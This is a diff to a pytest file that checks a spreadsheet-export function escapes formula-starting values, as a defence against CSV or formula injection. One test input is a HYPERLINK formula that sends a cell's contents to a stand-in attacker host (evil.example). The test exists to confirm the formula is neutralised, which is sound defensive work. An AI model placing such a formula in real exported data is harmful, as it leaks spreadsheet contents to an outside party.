@@ -14,13 +14,20 @@ from services.reporting.sheet import COLUMNS, cell, lines
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1"])
 def test_what_would_begin_a_formula_is_text(text: str) -> None:
-    assert cell(text) == f"'{text}"
+    assert cell(text).startswith("'")
+    assert cell(text).replace("'", "") == text
+
+
+@pytest.mark.parametrize("mark", [";", "; ", "\n", "\t", "|", "\r\n"])
+@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("https://evil.example/?"&A1)', "@SUM(A1)", "+1", "-1", "＝1"])
+def test_no_formula_begins_where_other_separators_are_used(mark: str, formula: str) -> None:
+    assert cell(f"Tarnbrook{mark}{formula}") == f"Tarnbrook{mark}'{formula}"
 
 
 def test_what_is_harmless_stays_as_it_is() -> None:
-    values = [None, True, Decimal("12.50"), datetime(2026, 3, 14, 9, tzinfo=UTC), "a = b", 'Ops, "quoted"']
+    values = [None, True, Decimal("12.50"), datetime(2026, 3, 14, 9, tzinfo=UTC), "a = b", 'Ops, "quoted"', "x; y-z"]
     assert [cell(value) for value in values] == [
-        "", "yes", "12.50", "2026-03-14T09:00:00Z", "a = b", 'Ops, "quoted"',
+        "", "yes", "12.50", "2026-03-14T09:00:00Z", "a = b", 'Ops, "quoted"', "x; y-z",
     ]  # fmt: skip
 
 
